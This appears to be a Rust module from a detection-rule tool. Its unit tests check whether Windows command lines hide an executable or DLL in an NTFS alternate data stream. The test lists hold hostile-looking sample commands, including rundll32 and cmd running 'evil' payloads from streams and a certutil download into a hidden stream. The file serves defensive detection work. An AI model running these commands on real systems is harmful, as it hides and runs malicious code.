//! Contents of a file or folder other than its own: `C:\Windows\Tracing:evil.exe` is no file in `C:\Windows`.

use super::fields::{self, is_prose};
use super::path::{has_drive, is_windows};

/// Where a colon, other than that of a drive, makes a value another.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Contents {
    /// The rule has one itself, or the field holds no path of files.
    Named,
    /// The field holds the name of a file.
    OfAFile,
    /// The field may hold the name of a file, or a command.
    Maybe,
}

impl Contents {
    /// What a colon means in this field, to a rule that says this of it.
    pub(super) fn of(path: &str, text: &str) -> Self {
        if is_prose(path) || path.ends_with(".targetObject") {
            Self::Named
        } else if fields::is_file_of_windows(path) {
            if pattern_names_some(text) {
                Self::Named
            } else {
                Self::OfAFile
            }
        } else if command_names_some(text) {
            Self::Named
        } else {
            Self::Maybe
        }
    }

    /// Whether the value is another than it looks like.
    pub(super) fn make_another(self, value: &str) -> bool {
        match self {
            Self::Named => false,
            Self::OfAFile => are_named(value, true),
            Self::Maybe => are_named(value, false),
        }
    }
}

/// Whether a value names contents. What need not be a file may be a command, with colons in its arguments: there only a path does that
/// begins like one, with a drive, a backslash, a dot or a variable, and that ends with its quotes or, without any, at the next switch.
pub(super) fn are_named(value: &str, is_file: bool) -> bool {
    let has_backslash = value.contains('\\');
    if !value.contains(':') || (value.starts_with('/') && !has_backslash) {
        return false;
    }
    let is_file = is_windows(value) && (is_file || (has_drive(value) && !value.contains(char::is_whitespace)));
    let mut path: Option<Path> = None;
    let mut name = Name::default();
    let mut behind_quote = None;
    let mut last = ' ';
    for (at, c) in value.char_indices() {
        let after = &value[at + c.len_utf8()..];
        let begins_word = !last.is_alphanumeric() && last != '_';
        let quote = path.as_ref().and_then(|path| path.quote);
        // Within a name an apostrophe is one.
        if c == '"' || (c == '\'' && (begins_word || quote == Some(c))) {
            path = path.filter(|_| {
                let closes = quote == Some(c) && after.chars().next().is_none_or(char::is_whitespace);
                !closes && (quote.is_some() || !last.is_whitespace())
            });
            if let Some(path) = &mut path {
                path.turn(c);
            }
            behind_quote = Some(c);
            last = c;
            continue;
        }
        if c.is_whitespace() {
            behind_quote = None;
            if let Some(path) = path.as_mut().filter(|path| path.quote.is_none()) {
                path.has_slashes = false;
            }
        }
        if last.is_whitespace() && quote.is_none() && matches!(c, '/' | '-') {
            path = None;
        }
        let of_a_folder = begins_drive(c, after);
        let begins_argument = last.is_whitespace() || "\"'=,;()".contains(last);
        let begins_path = has_backslash
            && ((!is_separator(last) && "\\.%$".contains(c))
                || (begins_argument && c.is_ascii_alphabetic() && after.starts_with(':')));
        if begins_word && (of_a_folder || begins_path) {
            let path = path.get_or_insert_default();
            path.quote = path.quote.or(behind_quote);
            path.has_slashes |= of_a_folder;
        }
        if c == ':' && at > 1 {
            let of_a_drive = name.len == 1 && after.starts_with(is_separator);
            let of_a_path = || path.as_ref().is_some_and(|path| path.may_end_in(&name)) && begins_contents(after);
            if !of_a_drive && (is_file || of_a_path()) {
                return true;
            }
        }
        let ends_argument = c.is_whitespace() || ",;=<>|".contains(c);
        if is_separator(c) {
            name = Name {
                follows: Some(c),
                ..Name::default()
            };
        } else {
            name.len += c.len_utf8();
            name.is_of_a_command |= ends_argument;
        }
        path = path.filter(|path| !(ends_argument && path.ends_at(c)));
        last = c;
    }
    false
}

fn is_separator(c: char) -> bool {
    matches!(c, '\\' | '/')
}

/// Whether a letter, and what stands behind it, are a drive and the beginning of a path on it.
fn begins_drive(c: char, after: &str) -> bool {
    let path = after.strip_prefix(':');
    c.is_ascii_alphabetic() && path.is_some_and(|path| path.starts_with(is_separator))
}

/// Whether what stands behind a colon may be the name of contents: not where nothing does, nor another path of a list.
fn begins_contents(after: &str) -> bool {
    let mut name = after.trim_start_matches(['"', '\'']).chars();
    name.next()
        .is_some_and(|c| !c.is_whitespace() && !is_separator(c) && !begins_drive(c, name.as_str()))
}

/// A path, so far as it is read.
#[derive(Default)]
struct Path {
    /// Within which, if any, it stands.
    quote: Option<char>,
    /// A slash in it is not that of an address or of an image: `C:\x.exe http://host:80`.
    has_slashes: bool,
}

impl Path {
    /// Goes over a quote: into or out of what is quoted, unless that has quotes of the other kind.
    fn turn(&mut self, quote: char) {
        match self.quote {
            None => self.quote = Some(quote),
            Some(open) if open == quote => self.quote = None,
            Some(_) => {}
        }
    }

    /// Whether this ends an argument and the path with it. No name has the last three.
    fn ends_at(&self, c: char) -> bool {
        "<>|".contains(c) || (self.quote.is_none() && !c.is_whitespace())
    }

    /// Whether this is the name of a file or folder in it.
    fn may_end_in(&self, name: &Name) -> bool {
        name.len > 0
            && name
                .follows
                .is_some_and(|separator| separator == '\\' || self.has_slashes)
            && (self.quote.is_some() || !name.is_of_a_command)
    }
}

/// What stands between two separators, so far as it is read.
#[derive(Default)]
struct Name {
    len: usize,
    follows: Option<char>,
    is_of_a_command: bool,
}

/// Whether a pattern names contents: `**:Zone.Identifier`.
fn pattern_names_some(text: &str) -> bool {
    text.match_indices(':').any(|(at, _)| {
        let flags = text[..at]
            .rsplit_once("(?")
            .is_some_and(|(_, flags)| flags.chars().all(|c| c.is_ascii_alphabetic() || c == '-'));
        at > 1 && !flags && text[at + 1..].starts_with(|c: char| c.is_alphanumeric() || matches!(c, '*' | '_'))
    })
}

/// Whether the pattern for what may be a command does: `**:Zone.Identifier`, and not merely a switch with a colon (`/out:C:\\x\\*`).
fn command_names_some(text: &str) -> bool {
    let text = text.replace("[:", "[").replace(":]", "]");
    let of_any_name = |(at, _)| {
        let (before, after) = (&text[..at], &text[at + 1..]);
        before.ends_with(['*', '+', '?', ']', ')', '}']) && begins_contents(after)
    };
    are_named(&text, false) || text.match_indices(':').any(of_any_name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_account_and_a_list_of_paths_are_told_from_contents_of_a_file() {
        for command in [
            r"C:\Windows\cmd.exe /c C:\Windows\Tracing:evil.exe",
            r#"cmd.exe /c "C:\Windows\Tracing:evil.exe""#,
            r"cmd.exe /c .\Tracing:evil.exe",
            r"cmd.exe /c \\host\share\x:evil.exe",
            r"cmd.exe /c %windir%\Tracing:evil.exe",
            r"start C:\Program Files\App:evil.exe",
            r"start /d=C:\Windows\Tracing:evil.exe",
            r"C:\data:C",
            r"cmd.exe /c type x>C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c type x>.\Tracing:evil.exe",
            r"cmd.exe /c x<C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c x|C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c x&C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c @C:\Windows\Tracing:evil.exe",
            r"cmd.exe /c copy a+C:\Windows\Tracing:evil.exe",
            r"robocopy.exe C:\a C:\b /log:C:\Windows\Tracing:evil.exe",
            r#"rundll32.exe "C:\Program Files\Acme, Inc\data:evil.dll",Start"#,
            r#"rundll32.exe "C:\ProgramData\Acme - Tools\data:evil.dll",Start"#,
            r#"rundll32.exe "C:\Acme (old)\My Data:evil.dll",Start"#,
            r#"rundll32.exe x" "C:\Acme, Inc\data:evil.dll",Start"#,
            r#"csc.exe "/out:C:\Acme, Inc\data:evil.dll""#,
            r"gc 'C:\Acme, Inc\data:evil.ps1'",
            r"gc 'C:\O''Neil, Inc\data:evil.ps1'",
            r"rundll32.exe C:\Users\O'Neil\data:evil.dll,Start",
            r"C:\Program Files (x86)\App\data:evil.dll -x y",
            r"rundll32.exe C:\Windows\Tracing:_evil.dll,Start",
            r"rundll32.exe C:\Windows\Tracing:.dll,Start",
            r"rundll32.exe C:\Windows\Tracing:^evil.dll,Start",
            r#"rundll32.exe C:\Windows\Tracing:"evil.dll",Start"#,
            r#"rundll32.exe C:\Windows\"Tracing":evil.dll,Start"#,
            r"rundll32.exe C:\Windows/Tracing:evil.dll,Start",
            r"rundll32.exe C:/Windows/Tracing:evil.dll,Start",
            r"certutil -f http://203.0.113.9/x C:\Windows\Tracing:evil.exe",
        ] {
            assert!(are_named(command, false), "{command}");
        }
        for command in [
            r"icacls C:\Data /grant CORP\svc:F",
            r#"icacls C:\Data /grant "CORP\svc:(OI)(CI)F""#,
            r"sqlcmd -S srv\inst -U CORP\svc:x",
            r"docker run -v C:\data:C:\data img",
            r"docker run -v C:\data:/data img",
            r"/usr/bin/chown CORP\svc:users /srv/x",
            r"powershell -c Get-Item HKLM:\Software\App",
            r"C:\a b",
            "ab:c:d",
            r#""C:\Tools\icacls.exe" C:\Data "CORP\svc:(OI)(CI)F" 'CORP\adm:F'"#,
            r"C:\Docker\docker.exe pull registry/img:tag",
            r"C:\Windows\curl.exe http://proxy.example:8080/x",
            r"C:\Tools\x.exe C:\a.txt>NUL 10:30",
            r#"cmd.exe /c "C:\Tools\x.exe" 10:30"#,
            r"schtasks /create /tr C:\x\y.bat /st 10:30",
            "rsync ./a/b:c /srv/x",
            "sed -e s:/var/a:/tmp/b: /srv/x",
        ] {
            assert!(!are_named(command, false), "{command}");
        }
    }

    #[test]
    fn a_pattern_with_a_switch_names_no_contents() {
        const LINE: &str = "data.win.eventdata.commandLine";
        for pattern in [
            r"csc.exe /out:C:\Windows\*",
            r"csc\.exe /out:C:\\Windows\\[[:alpha:]]+",
            r"msbuild.exe /t:Build C:\build\*",
            r"(?i:type) C:\\Windows\\.*",
            r"curl.exe http://proxy.example:8080/* -o C:\Temp\*",
        ] {
            assert_eq!(Contents::of(LINE, pattern), Contents::Maybe, "{pattern}");
        }
        for pattern in [
            r"type C:\Data\x.exe:Zone.Identifier*",
            r"type **:Zone.Identifier",
            r"type C:\\Data\\[a-z]+:Zone\.Identifier",
            r"**:*",
        ] {
            assert_eq!(Contents::of(LINE, pattern), Contents::Named, "{pattern}");
        }
    }

    #[test]
    fn colons_are_read_once() {
        let value = format!(r"C:\ {}", "a:".repeat(500_000));
        let started = std::time::Instant::now();
        assert!(!are_named(&value, false));
        assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
    }
}
